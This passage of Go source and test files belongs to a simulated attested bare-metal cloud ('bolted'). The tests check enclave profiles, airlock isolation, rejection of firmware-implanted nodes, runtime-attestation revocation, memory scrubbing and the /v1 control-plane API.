// rejection, but the node is healthy, so it returns to the free pool
// rather than quarantine.
func (e *Enclave) abortNode(name string, cause error) {
	e.releaseNodeResources(name)
	ctx := context.Background()
	_ = e.cloud.HIL.FreeNode(ctx, e.Project, name)
	_ = e.cloud.HIL.DeleteNetwork(ctx, e.Project, airlockNet(name))
	if e.lc.state(name) != StateFree {
		_ = e.lc.to(name, StateFree, "aborted: "+cause.Error())
	} else {
		// Reserved but never airlocked: journal the return directly.
		e.journal.record(EvReleased, name, "aborted: "+cause.Error())
	}
}
