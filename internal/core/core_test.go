package core

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"bolted/internal/blockdev"
	"bolted/internal/bmi"
	"bolted/internal/firmware"
	"bolted/internal/ima"
)

func testCloud(t testing.TB, nodes int, fw FirmwareKind) *Cloud {
	t.Helper()
	cfg := DefaultConfig()
	cfg.Nodes = nodes
	cfg.Firmware = fw
	c, err := NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	// A golden tenant OS image.
	if _, err := c.BMI.CreateOSImage("fedora28", bmi.OSImageSpec{
		KernelID: "fedora28-4.17.9",
		Kernel:   []byte("vmlinuz-4.17.9-200"),
		Initrd:   []byte("initramfs-4.17.9"),
		Cmdline:  "root=iscsi ima_policy=tcb",
		RootFS:   bytes.Repeat([]byte("rootfs"), 1000),
	}); err != nil {
		t.Fatal(err)
	}
	return c
}

func TestProfileValidation(t *testing.T) {
	for _, p := range []Profile{ProfileAlice, ProfileBob, ProfileCharlie} {
		if err := p.Validate(); err != nil {
			t.Errorf("%s: %v", p.Name, err)
		}
	}
	bad := Profile{Name: "x", ContinuousAttest: true}
	if err := bad.Validate(); err == nil {
		t.Error("continuous attestation without tenant verifier accepted")
	}
	bad2 := Profile{Name: "y", TenantVerifier: true}
	if err := bad2.Validate(); err == nil {
		t.Error("tenant verifier without attestation accepted")
	}
}

func TestAliceFastPath(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "alice-proj", ProfileAlice)
	if err != nil {
		t.Fatal(err)
	}
	n, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	if n.Machine.Layer() != firmware.LayerTenantKernel {
		t.Fatalf("layer = %s", n.Machine.Layer())
	}
	if n.Machine.KernelID() != "fedora28-4.17.9" {
		t.Fatalf("kernel = %s", n.Machine.KernelID())
	}
	if e.Verifier() != nil {
		t.Fatal("Alice should have no verifier")
	}
	// Unencrypted traffic passes (fabric reachability only).
	n2, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	out, err := e.Send(n.Name, n2.Name, []byte("hi"))
	if err != nil || string(out) != "hi" {
		t.Fatalf("Send: %v", err)
	}
}

func TestBobAttestedPath(t *testing.T) {
	c := testCloud(t, 1, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "bob-proj", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	n, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	// Attested payload booted the node.
	if n.Machine.Layer() != firmware.LayerTenantKernel {
		t.Fatal("node did not boot")
	}
	st, err := e.Verifier().Status(n.Name)
	if err != nil || st != "verified" {
		t.Fatalf("status = %s, %v", st, err)
	}
	// Bob uses the provider's verifier port.
	if e.verifierPort != PortVerifier {
		t.Fatalf("verifier port = %s", e.verifierPort)
	}
}

func TestCharlieFullPath(t *testing.T) {
	for _, fw := range []FirmwareKind{FirmwareLinuxBoot, FirmwareUEFI} {
		t.Run(string(fw), func(t *testing.T) {
			c := testCloud(t, 2, fw)
			e, err := NewEnclave(c, "charlie-proj", ProfileCharlie)
			if err != nil {
				t.Fatal(err)
			}
			n1, err := e.AcquireNode(context.Background(), "fedora28")
			if err != nil {
				t.Fatal(err)
			}
			n2, err := e.AcquireNode(context.Background(), "fedora28")
			if err != nil {
				t.Fatal(err)
			}
			// Tenant-deployed verifier.
			if e.verifierPort == PortVerifier {
				t.Fatal("Charlie is using the provider verifier")
			}
			// Encrypted disk: writes round-trip; plaintext never reaches
			// the provider's object store.
			secret := bytes.Repeat([]byte("TOPSECRET-"), 52)[:blockdev.SectorSize]
			if err := n1.Disk.WriteSectors(secret, 0); err != nil {
				t.Fatal(err)
			}
			got := make([]byte, blockdev.SectorSize)
			if err := n1.Disk.ReadSectors(got, 0); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got, secret) {
				t.Fatal("disk round-trip failed")
			}
			for _, objName := range c.Ceph.ListPrefix("img-" + e.Project) {
				obj, _ := c.Ceph.Get(objName)
				if bytes.Contains(obj, []byte("TOPSECRET-TOPSECRET")) {
					t.Fatal("tenant plaintext visible in provider storage")
				}
			}
			// Encrypted enclave traffic.
			out, err := e.Send(n1.Name, n2.Name, []byte("enclave msg"))
			if err != nil || string(out) != "enclave msg" {
				t.Fatalf("encrypted send: %v", err)
			}
		})
	}
}

func TestContinuousAttestationRevokesTraffic(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "charlie", ProfileCharlie)
	if err != nil {
		t.Fatal(err)
	}
	e.IMAWhitelist().AllowContent("/usr/bin/spark", []byte("spark"))
	n1, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	n2, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	// Clean runtime activity passes.
	n1.IMA.Measure("/usr/bin/spark", []byte("spark"), ima.HookExec, 0)
	if v, err := e.Verifier().CheckIMA(n1.Name); err != nil || len(v) != 0 {
		t.Fatalf("clean check: %v %v", v, err)
	}
	if _, err := e.Send(n1.Name, n2.Name, []byte("before")); err != nil {
		t.Fatal(err)
	}
	// Unwhitelisted execution on n1 -> revocation -> traffic severed.
	n1.IMA.Measure("/tmp/evil", []byte("dropper"), ima.HookExec, 0)
	v, err := e.Verifier().CheckIMA(n1.Name)
	if err != nil || len(v) != 1 {
		t.Fatalf("violation check: %v %v", v, err)
	}
	if _, err := e.Send(n1.Name, n2.Name, []byte("after")); err == nil {
		t.Fatal("revoked node can still send enclave traffic")
	}
	if _, err := e.Send(n2.Name, n1.Name, []byte("after")); err == nil {
		t.Fatal("peers can still send to revoked node")
	}
}

func TestCompromisedNodeGoesToRejectedPool(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, err := NewEnclave(c, "bob", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	// A previous tenant implanted the firmware of node00.
	m, _ := c.Machine("node00")
	evil := firmware.BuildLinuxBoot("heads-v1.0", []byte("implanted heads"))
	m.ReflashFirmware(firmware.NewLinuxBoot(evil, "m620"))

	// node00 sorts first, so the first acquire attempt hits it.
	_, err = e.AcquireNode(context.Background(), "fedora28")
	if err == nil {
		t.Fatal("compromised node passed attestation")
	}
	if !strings.Contains(err.Error(), "rejected pool") {
		t.Fatalf("error does not mention rejected pool: %v", err)
	}
	rej := c.Rejected()
	if _, ok := rej["node00"]; !ok {
		t.Fatalf("rejected pool = %v", rej)
	}
	// The rejected node is fully isolated.
	port, _ := c.HIL.NodePort("node00")
	vlans, _ := c.Fabric.VLANsOf(port)
	if len(vlans) != 0 {
		t.Fatalf("rejected node still on VLANs %v", vlans)
	}
	// The tenant can still get the clean node.
	n, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	if n.Name != "node01" {
		t.Fatalf("got %s", n.Name)
	}
}

func TestMemoryScrubbedBetweenTenants(t *testing.T) {
	c := testCloud(t, 1, FirmwareLinuxBoot)
	ea, err := NewEnclave(c, "tenant-a", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	n, err := ea.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	n.Machine.Memory().Store("tenant-a-dbkey", []byte("super secret"))
	if err := ea.ReleaseNode(n.Name, ""); err != nil {
		t.Fatal(err)
	}

	eb, err := NewEnclave(c, "tenant-b", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	n2, err := eb.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	if n2.Name != n.Name {
		t.Fatalf("expected node reuse, got %s", n2.Name)
	}
	if _, ok := n2.Machine.Memory().Load("tenant-a-dbkey"); ok {
		t.Fatal("previous tenant's memory survived into next occupancy")
	}
}

func TestStatelessReleaseLeavesNothing(t *testing.T) {
	c := testCloud(t, 1, FirmwareLinuxBoot)
	e, _ := NewEnclave(c, "t", ProfileBob)
	n, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	data := bytes.Repeat([]byte{7}, blockdev.SectorSize)
	n.Disk.WriteSectors(data, 0)
	volObjects := len(c.Ceph.ListPrefix("img-" + e.Project))
	if volObjects == 0 {
		t.Fatal("expected volume objects while allocated")
	}
	if err := e.ReleaseNode(n.Name, ""); err != nil {
		t.Fatal(err)
	}
	if got := len(c.Ceph.ListPrefix("img-" + e.Project)); got != 0 {
		t.Fatalf("%d objects survived stateless release", got)
	}
	if owner, _ := c.HIL.NodeOwner(n.Name); owner != "" {
		t.Fatal("node not returned to free pool")
	}
}

func TestReleaseSavesState(t *testing.T) {
	c := testCloud(t, 1, FirmwareLinuxBoot)
	e, _ := NewEnclave(c, "t", ProfileBob)
	n, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	data := bytes.Repeat([]byte{9}, blockdev.SectorSize)
	n.Disk.WriteSectors(data, 5)
	if err := e.ReleaseNode(n.Name, "saved-vol"); err != nil {
		t.Fatal(err)
	}
	dev, err := c.LocalBMI().Device("saved-vol")
	if err != nil {
		t.Fatal(err)
	}
	got := make([]byte, blockdev.SectorSize)
	dev.ReadSectors(got, 5)
	if !bytes.Equal(got, data) {
		t.Fatal("saved volume lost node state")
	}
}

func TestEnclaveDestroy(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, _ := NewEnclave(c, "t", ProfileBob)
	if _, err := e.AcquireNode(context.Background(), "fedora28"); err != nil {
		t.Fatal(err)
	}
	if _, err := e.AcquireNode(context.Background(), "fedora28"); err != nil {
		t.Fatal(err)
	}
	if err := e.Destroy(); err != nil {
		t.Fatal(err)
	}
	if free, _ := c.HIL.FreeNodes(); len(free) != 2 {
		t.Fatal("nodes not freed on destroy")
	}
	// The project name is reusable.
	if _, err := NewEnclave(c, "t", ProfileAlice); err != nil {
		t.Fatal(err)
	}
}

func TestAirlockIsolationBetweenConcurrentBoots(t *testing.T) {
	// Two nodes in airlock simultaneously must not reach each other.
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, _ := NewEnclave(c, "t", ProfileBob)
	// Drive the lifecycle manually up to the airlock for both nodes.
	for _, name := range []string{"node00", "node01"} {
		if err := c.HIL.AllocateNode(context.Background(), e.Project, name); err != nil {
			t.Fatal(err)
		}
		if err := c.HIL.CreateNetwork(context.Background(), e.Project, airlockNet(name)); err != nil {
			t.Fatal(err)
		}
		for _, net := range []string{airlockNet(name), NetAttestation, NetProvisioning} {
			if err := c.HIL.ConnectNode(context.Background(), e.Project, name, net); err != nil {
				t.Fatal(err)
			}
		}
	}
	p0, _ := c.HIL.NodePort("node00")
	p1, _ := c.HIL.NodePort("node01")
	// Both reach the attestation service...
	if !c.Fabric.Reachable(p0, PortRegistrar) || !c.Fabric.Reachable(p1, PortRegistrar) {
		t.Fatal("airlocked node cannot reach registrar")
	}
	// ...but not each other: per-node airlock VLANs plus private-VLAN
	// service networks mean a compromised server cannot infect an
	// uncompromised one during attestation (§4.2).
	if c.Fabric.Reachable(p0, p1) {
		t.Fatal("two concurrently airlocked nodes can reach each other")
	}
}

func TestVerifyPublishedFirmware(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Nodes = 1
	c, err := NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	md, _ := c.HIL.NodeMetadata("node00")
	// The tenant holds the same source the provider built from.
	if err := VerifyPublishedFirmware(md, "heads-v1.0", cfg.HeadsSource); err != nil {
		t.Fatalf("genuine source rejected: %v", err)
	}
	// A different source (the tenant audits something else, or the
	// provider lied) fails.
	if err := VerifyPublishedFirmware(md, "heads-v1.0", []byte("other source")); err == nil {
		t.Fatal("mismatched source accepted")
	}
	if err := VerifyPublishedFirmware(map[string]string{}, "x", nil); err == nil {
		t.Fatal("missing metadata accepted")
	}
	if err := VerifyPublishedFirmware(map[string]string{MetadataPlatformPCR: "aa"}, "x", nil); err == nil {
		t.Fatal("missing platform_gen accepted")
	}
	// A node reachable through the provisioning network after joining:
	// the iSCSI path must stay up for the node's lifetime.
	if _, err := c.BMI.CreateOSImage("os", bmi.OSImageSpec{KernelID: "k", Kernel: []byte("k")}); err != nil {
		t.Fatal(err)
	}
	e, _ := NewEnclave(c, "t", ProfileBob)
	n, err := e.AcquireNode(context.Background(), "os")
	if err != nil {
		t.Fatal(err)
	}
	port, _ := c.HIL.NodePort(n.Name)
	if !c.Fabric.Reachable(port, PortBMI) {
		t.Fatal("enclave member lost its storage path")
	}
}

func TestJournalRecordsLifecycle(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	e, _ := NewEnclave(c, "audited", ProfileCharlie)
	e.IMAWhitelist().AllowContent("/bin/ok", []byte("ok"))
	n, err := e.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		t.Fatal(err)
	}
	// The happy path leaves the full trail in order.
	kinds := []EventKind{}
	for _, ev := range e.Journal().ByNode(n.Name) {
		kinds = append(kinds, ev.Kind)
	}
	want := []EventKind{EvAllocated, EvAirlocked, EvBooting, EvAttesting, EvAttested, EvProvisioned, EvBooted, EvJoined}
	if len(kinds) != len(want) {
		t.Fatalf("journal kinds = %v", kinds)
	}
	for i := range want {
		if kinds[i] != want[i] {
			t.Fatalf("journal kinds = %v, want %v", kinds, want)
		}
	}
	// Runtime compromise and release are recorded too.
	n.IMA.Measure("/bin/bad", []byte("bad"), ima.HookExec, 0)
	e.Verifier().CheckIMA(n.Name)
	if e.Journal().Count(EvRevoked) != 1 {
		t.Fatal("revocation not journalled")
	}
	if err := e.ReleaseNode(n.Name, "post-mortem"); err != nil {
		t.Fatal(err)
	}
	if e.Journal().Count(EvStateSaved) != 1 || e.Journal().Count(EvReleased) != 1 {
		t.Fatal("release not journalled")
	}
	// A rejected node's trail ends in rejection. The free pool is
	// sorted, so the released node00 is what the next acquire gets.
	freePool, _ := c.HIL.FreeNodes()
	m, _ := c.Machine(freePool[0])
	evil := firmware.BuildLinuxBoot("x", []byte("implant"))
	m.ReflashFirmware(firmware.NewLinuxBoot(evil, "m620"))
	if _, err := e.AcquireNode(context.Background(), "fedora28"); err == nil {
		t.Fatal("implant passed")
	}
	trail := e.Journal().ByNode(m.Name())
	if trail[len(trail)-1].Kind != EvRejected {
		t.Fatalf("rejected trail = %v", trail)
	}
	// Cleanup for the image created by ReleaseNode.
	if _, err := c.BMI.GetImage("post-mortem"); err != nil {
		t.Fatal(err)
	}
}

// --- Figure 4 / Figure 5 timing shapes ---

func TestTimingFigure4Shapes(t *testing.T) {
	run := func(fw FirmwareKind, sec SecurityLevel, foreman bool) *ProvisionResult {
		cfg := DefaultProvisionConfig()
		cfg.Firmware = fw
		cfg.Security = sec
		cfg.Foreman = foreman
		return SimulateProvisioning(cfg)
	}
	foreman := run(FirmwareUEFI, SecNone, true).Makespan
	lbNone := run(FirmwareLinuxBoot, SecNone, false).Makespan
	lbAtt := run(FirmwareLinuxBoot, SecAttested, false).Makespan
	lbFull := run(FirmwareLinuxBoot, SecFull, false).Makespan
	uefiNone := run(FirmwareUEFI, SecNone, false).Makespan
	uefiAtt := run(FirmwareUEFI, SecAttested, false).Makespan
	uefiFull := run(FirmwareUEFI, SecFull, false).Makespan

	const minute = float64(60e9)
	// Paper: LinuxBoot-in-ROM provisions in under 3 min unattested,
	// under 4 min attested.
	if m := float64(lbNone) / minute; m >= 3 {
		t.Errorf("LinuxBoot unattested = %.1f min, want < 3", m)
	}
	if m := float64(lbAtt) / minute; m >= 4 {
		t.Errorf("LinuxBoot attested = %.1f min, want < 4", m)
	}
	// Attestation adds ~25% (paper: "adding only around 25%").
	overhead := float64(lbAtt-lbNone) / float64(lbNone)
	if overhead < 0.15 || overhead > 0.35 {
		t.Errorf("attestation overhead = %.0f%%, want ~25%%", overhead*100)
	}
	// UEFI full attestation ~7 min, still >1.4x faster than Foreman.
	if m := float64(uefiFull) / minute; m < 6 || m > 8.5 {
		t.Errorf("UEFI full = %.1f min, want ~7", m)
	}
	if ratio := float64(foreman) / float64(uefiFull); ratio < 1.4 || ratio > 1.9 {
		t.Errorf("Foreman/Bolted ratio = %.2f, want ~1.6", ratio)
	}
	// Orderings within a firmware class.
	if !(lbNone < lbAtt && lbAtt < lbFull) {
		t.Error("LinuxBoot security levels not monotone")
	}
	if !(uefiNone < uefiAtt && uefiAtt < uefiFull) {
		t.Error("UEFI security levels not monotone")
	}
	// LinuxBoot's POST advantage shows end to end.
	if uefiNone-lbNone < 3*time.Minute {
		t.Error("LinuxBoot does not show its POST advantage")
	}
}

func TestTimingFigure5Shapes(t *testing.T) {
	run := func(sec SecurityLevel, n int) time.Duration {
		cfg := DefaultProvisionConfig()
		cfg.Firmware = FirmwareUEFI
		cfg.Security = sec
		cfg.Concurrency = n
		return SimulateProvisioning(cfg).Makespan
	}
	// Unattested: flat to 8, degraded at 16 (Ceph contention).
	u1, u8, u16 := run(SecNone, 1), run(SecNone, 8), run(SecNone, 16)
	if growth := float64(u8-u1) / float64(u1); growth > 0.10 {
		t.Errorf("unattested 1->8 growth = %.0f%%, want flat", growth*100)
	}
	if growth := float64(u16-u8) / float64(u8); growth < 0.05 {
		t.Errorf("unattested 8->16 growth = %.0f%%, want a visible knee", growth*100)
	}
	// Attested: worse at 16 than unattested (single airlock serializes).
	a1, a16 := run(SecAttested, 1), run(SecAttested, 16)
	attGrowth := float64(a16-a1) / float64(a1)
	unattGrowth := float64(u16-u1) / float64(u1)
	if attGrowth <= unattGrowth {
		t.Errorf("attested growth %.0f%% not worse than unattested %.0f%%", attGrowth*100, unattGrowth*100)
	}
	// Ablation: more airlocks recover the attested scaling.
	cfg := DefaultProvisionConfig()
	cfg.Firmware = FirmwareUEFI
	cfg.Security = SecAttested
	cfg.Concurrency = 16
	cfg.Airlocks = 16
	if par := SimulateProvisioning(cfg).Makespan; par >= a16 {
		t.Errorf("16 airlocks (%v) not faster than 1 (%v)", par, a16)
	}
}

func TestTimingPhaseBreakdownConsistent(t *testing.T) {
	r := SimulateProvisioning(DefaultProvisionConfig())
	if len(r.Phases) == 0 {
		t.Fatal("no phase breakdown")
	}
	if r.Total() != r.PerNode[0] {
		t.Fatalf("phase sum %v != node completion %v", r.Total(), r.PerNode[0])
	}
	if r.Makespan != r.PerNode[0] {
		t.Fatalf("single-node makespan mismatch")
	}
}

func TestProfileDiskEncryptionRequiresAttestation(t *testing.T) {
	// The LUKS key only reaches the node inside the attested payload;
	// without attestation the provisioner would have no key to format
	// the volume with.
	bad := Profile{Name: "z", EncryptDisk: true}
	if err := bad.Validate(); err == nil {
		t.Error("disk encryption without attestation accepted")
	}
}
