package remote

import (
	"context"
	"errors"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"bolted/internal/core"
)

// startV1Server wires an in-process cloud plus control plane and
// serves the full surface (raw planes + /v1) the way boltedd does.
func startV1Server(t *testing.T, nodes int) (*core.Cloud, *core.Manager, *V1Client) {
	t.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = nodes
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("fedora28", testSpec()); err != nil {
		t.Fatal(err)
	}
	mgr := core.NewManager(cloud)
	handler, err := NewHandlerWithManager(cloud, mgr)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(handler)
	t.Cleanup(srv.Close)
	return cloud, mgr, NewV1Client(srv.URL)
}

// TestV1EndToEndAsyncAcquire is the acceptance test for the tentpole:
// a /v1 client creates an enclave, starts an async acquisition over
// HTTP, watches the event stream, and ends with a result and per-node
// journal identical to the in-process AcquireNodes run.
func TestV1EndToEndAsyncAcquire(t *testing.T) {
	const nodes, batch = 5, 3
	for _, profile := range []core.Profile{core.ProfileBob, core.ProfileCharlie} {
		t.Run(profile.Name, func(t *testing.T) {
			serverCloud, mgr, cli := startV1Server(t, nodes)
			ctx := context.Background()

			if _, err := cli.CreateEnclave(ctx, "tenant", profile.Name); err != nil {
				t.Fatal(err)
			}
			op, err := cli.Acquire(ctx, "tenant", "fedora28", batch)
			if err != nil {
				t.Fatal(err)
			}
			if op.Terminal() {
				t.Fatalf("acquire answered with a terminal operation: %+v", op)
			}
			if op.Enclave != "tenant" || op.Image != "fedora28" || op.Count != batch {
				t.Fatalf("operation metadata = %+v", op)
			}

			// Watch the event stream while the server works.
			var streamed []EventInfo
			streamDone := make(chan error, 1)
			go func() {
				streamDone <- cli.StreamEvents(ctx, op.ID, 0, func(ev EventInfo) error {
					streamed = append(streamed, ev)
					return nil
				})
			}()

			final, err := cli.WaitOperation(ctx, op.ID)
			if err != nil {
				t.Fatal(err)
			}
			if final.Phase != string(core.OpDone) || final.Result == nil || final.Error != "" {
				t.Fatalf("final operation = %+v", final)
			}
			if len(final.Result.Nodes) != batch || len(final.Result.Failed) != 0 || len(final.Result.Aborted) != 0 {
				t.Fatalf("result = %+v", final.Result)
			}
			if final.Result.Wall <= 0 {
				t.Fatal("no wall clock crossed the wire")
			}
			for _, phase := range []string{core.PhaseAirlock, core.PhaseBoot, core.PhaseAttest, core.PhaseProvision} {
				found := false
				for _, p := range final.Result.Phases {
					if p.Phase == phase && p.Nodes == batch {
						found = true
					}
				}
				if !found {
					t.Fatalf("phase %s missing from wire timings: %+v", phase, final.Result.Phases)
				}
			}
			if err := <-streamDone; err != nil {
				t.Fatal(err)
			}

			// The stream is exactly the server-side operation journal.
			srvOp, err := mgr.Operation(op.ID)
			if err != nil {
				t.Fatal(err)
			}
			srvEvents := srvOp.Events()
			if len(streamed) != len(srvEvents) {
				t.Fatalf("streamed %d events, server journal has %d", len(streamed), len(srvEvents))
			}
			for i, ev := range streamed {
				want := srvEvents[i]
				if ev.Kind != string(want.Kind) || ev.Node != want.Node || ev.Detail != want.Detail {
					t.Fatalf("event %d = %+v, want %v", i, ev, want)
				}
			}

			// Per-node journal identical to the same batch run in process.
			localCloud, err := core.NewCloud(core.CloudConfig{
				Nodes: nodes, Firmware: core.FirmwareLinuxBoot,
				HeadsSource: core.DefaultConfig().HeadsSource,
				OSDs:        3, Replication: 2, SpindlesPerO: 9, PlatformGen: "m620",
			})
			if err != nil {
				t.Fatal(err)
			}
			if _, err := localCloud.BMI.CreateOSImage("fedora28", testSpec()); err != nil {
				t.Fatal(err)
			}
			localEnclave, err := core.NewEnclave(localCloud, "tenant", profile)
			if err != nil {
				t.Fatal(err)
			}
			localRes, err := localEnclave.AcquireNodes(ctx, "fedora28", batch)
			if err != nil {
				t.Fatal(err)
			}
			if len(localRes.Nodes) != len(final.Result.Nodes) {
				t.Fatalf("local %d nodes, v1 %d", len(localRes.Nodes), len(final.Result.Nodes))
			}
			srvEnclave, err := mgr.Enclave("tenant")
			if err != nil {
				t.Fatal(err)
			}
			for i, name := range final.Result.Nodes {
				if name != localRes.Nodes[i].Name {
					t.Fatalf("member %d: v1 %s, local %s", i, name, localRes.Nodes[i].Name)
				}
				v1Trail := journalLines(srvEnclave.Journal(), name)
				localTrail := journalLines(localEnclave.Journal(), name)
				if strings.Join(v1Trail, "\n") != strings.Join(localTrail, "\n") {
					t.Fatalf("node %s journal diverges via /v1:\nv1:\n  %s\nlocal:\n  %s",
						name, strings.Join(v1Trail, "\n  "), strings.Join(localTrail, "\n  "))
				}
			}

			// The provider's source of truth saw the allocation, and the
			// enclave resource reflects it.
			free, _ := serverCloud.HIL.FreeNodes()
			if len(free) != nodes-batch {
				t.Fatalf("server free pool = %d, want %d", len(free), nodes-batch)
			}
			info, err := cli.GetEnclave(ctx, "tenant")
			if err != nil {
				t.Fatal(err)
			}
			allocated := 0
			for _, st := range info.Nodes {
				if st == string(core.StateAllocated) {
					allocated++
				}
			}
			if allocated != batch {
				t.Fatalf("enclave resource shows %d allocated nodes: %+v", allocated, info.Nodes)
			}

			// Release one node through the control plane, preserving its
			// volume server-side.
			released := final.Result.Nodes[0]
			if err := cli.ReleaseNode(ctx, "tenant", released, "postrun"); err != nil {
				t.Fatal(err)
			}
			if _, err := serverCloud.BMI.GetImage("postrun"); err != nil {
				t.Fatalf("saved image missing on server: %v", err)
			}
			if free, _ := serverCloud.HIL.FreeNodes(); len(free) != nodes-batch+1 {
				t.Fatalf("free pool after release = %d", len(free))
			}
		})
	}
}

// TestV1CancelMidFlight cancels an operation over the wire mid-batch
// and asserts the pool cleanup: unfinished nodes return to the free
// pool, nothing is quarantined, and the operation ends Cancelled. The
// cancel fires from a synchronous journal watcher at the first join,
// while the batch is twice the worker-pool bound — so the queued half
// is guaranteed to abort.
func TestV1CancelMidFlight(t *testing.T) {
	const nodes = 2 * core.DefaultBatchParallelism
	serverCloud, mgr, cli := startV1Server(t, nodes)
	ctx := context.Background()

	if _, err := cli.CreateEnclave(ctx, "tenant", "bob"); err != nil {
		t.Fatal(err)
	}
	// The watcher must be armed before the batch starts (over HTTP the
	// whole in-process batch can outrun the acquire round-trip). It
	// runs under the journal lock inside the provisioning pipeline, so
	// the wire cancel completes before any further lifecycle transition
	// can be recorded — the queued half of the batch is guaranteed to
	// see the cancelled context.
	e, err := mgr.Enclave("tenant")
	if err != nil {
		t.Fatal(err)
	}
	var once sync.Once
	unwatch := e.Journal().Watch(func(ev core.Event) {
		if ev.Kind != core.EvJoined {
			return
		}
		once.Do(func() {
			ops := mgr.ListOperations()
			if len(ops) != 1 {
				t.Errorf("expected one operation, got %d", len(ops))
				return
			}
			if _, err := cli.CancelOperation(ctx, ops[0].ID); err != nil {
				t.Errorf("cancel over wire: %v", err)
				ops[0].Cancel() // keep the test bounded
			}
		})
	})
	defer unwatch()

	op, err := cli.Acquire(ctx, "tenant", "fedora28", nodes)
	if err != nil {
		t.Fatal(err)
	}
	final, err := cli.WaitOperation(ctx, op.ID)
	if err != nil {
		t.Fatal(err)
	}
	if final.Phase != string(core.OpCancelled) {
		t.Fatalf("phase = %s, want %s", final.Phase, core.OpCancelled)
	}
	if final.Error == "" || !strings.Contains(final.Error, "context canceled") {
		t.Fatalf("cancelled operation error = %q", final.Error)
	}
	res := final.Result
	if res == nil {
		t.Fatal("cancelled operation carries no result")
	}
	if total := len(res.Nodes) + len(res.Failed) + len(res.Aborted); total != nodes {
		t.Fatalf("accounting: %d+%d+%d != %d", len(res.Nodes), len(res.Failed), len(res.Aborted), nodes)
	}
	if len(res.Failed) != 0 {
		t.Fatalf("cancellation quarantined healthy nodes: %+v", res.Failed)
	}
	if len(res.Nodes) == 0 || len(res.Aborted) == 0 {
		t.Fatalf("want both survivors and aborted nodes, got %d / %d", len(res.Nodes), len(res.Aborted))
	}
	// Pool cleanup on the provider's source of truth.
	if got := len(serverCloud.Rejected()); got != 0 {
		t.Fatalf("rejected pool has %d nodes", got)
	}
	free, _ := serverCloud.HIL.FreeNodes()
	if want := nodes - len(res.Nodes); len(free) != want {
		t.Fatalf("free pool = %d, want %d", len(free), want)
	}
	for _, f := range res.Aborted {
		if owner, _ := serverCloud.HIL.NodeOwner(f.Node); owner != "" {
			t.Fatalf("aborted %s still owned by %q", f.Node, owner)
		}
	}
	// Cancelling a terminal operation is a no-op, not an error.
	again, err := cli.CancelOperation(ctx, op.ID)
	if err != nil || again.Phase != string(core.OpCancelled) {
		t.Fatalf("repeat cancel = %+v, %v", again, err)
	}
}

// TestV1ErrorEnvelope: typed error envelopes cross the wire and map
// back onto the same sentinels the in-process API returns.
func TestV1ErrorEnvelope(t *testing.T) {
	_, _, cli := startV1Server(t, 2)
	ctx := context.Background()

	if _, err := cli.GetEnclave(ctx, "ghost"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("unknown enclave = %v, want core.ErrNotFound", err)
	}
	if _, err := cli.GetOperation(ctx, "op-9999"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("unknown operation = %v, want core.ErrNotFound", err)
	}
	if _, err := cli.CreateEnclave(ctx, "tenant", "bob"); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.CreateEnclave(ctx, "tenant", "bob"); !errors.Is(err, core.ErrExists) {
		t.Fatalf("duplicate enclave = %v, want core.ErrExists", err)
	}
	if _, err := cli.CreateEnclave(ctx, "other", "mallory"); err == nil {
		t.Fatal("unknown profile accepted")
	}
	if _, err := cli.Acquire(ctx, "ghost", "fedora28", 1); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("acquire on unknown enclave = %v, want core.ErrNotFound", err)
	}
	if _, err := cli.Acquire(ctx, "tenant", "fedora28", 0); err == nil {
		t.Fatal("zero-count acquire accepted")
	}
	if err := cli.ReleaseNode(ctx, "tenant", "node99", ""); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("release of non-member = %v, want core.ErrNotFound", err)
	}

	// Deleting an enclave with a running operation conflicts; once the
	// operation finishes the delete goes through and takes the
	// enclave's operations with it.
	op, err := cli.Acquire(ctx, "tenant", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	if delErr := cli.DeleteEnclave(ctx, "tenant"); delErr != nil {
		if !errors.Is(delErr, core.ErrConflict) {
			t.Fatalf("delete during op = %v, want core.ErrConflict", delErr)
		}
		if _, err := cli.WaitOperation(ctx, op.ID); err != nil {
			t.Fatal(err)
		}
